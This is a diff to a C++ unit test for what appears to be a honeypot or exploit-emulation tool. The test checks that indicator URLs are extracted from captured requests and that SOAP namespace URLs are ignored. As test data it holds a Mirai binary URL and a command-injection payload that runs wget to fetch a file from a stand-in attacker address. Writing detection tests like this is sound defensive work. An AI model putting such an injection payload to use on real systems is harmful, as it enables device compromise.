@@ -262,6 +262,13 @@ TEST_CASE("the plain web server answers 200 and keeps the URLs an exploit carrie
   REQUIRE(x.turn.indicator_count == 1);
   CHECK(x.turn.indicators[0].kind == indicator_kind::url);
   CHECK(x.turn.indicators[0].value() == "http://192.0.2.66/bins/mirai.mips");
+  // A SOAP envelope's namespaces are attributes, not downloads.
+  emulation_turn soap_turn;
+  note_urls("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">"
+            "$(wget http://192.0.2.66/h -O /tmp/h)</s:Envelope>",
+            soap_turn);
+  REQUIRE(soap_turn.indicator_count == 1);
+  CHECK(soap_turn.indicators[0].value() == "http://192.0.2.66/h");
 }
 
 TEST_CASE("--emulate names protocols and ports, and refuses what it cannot do",
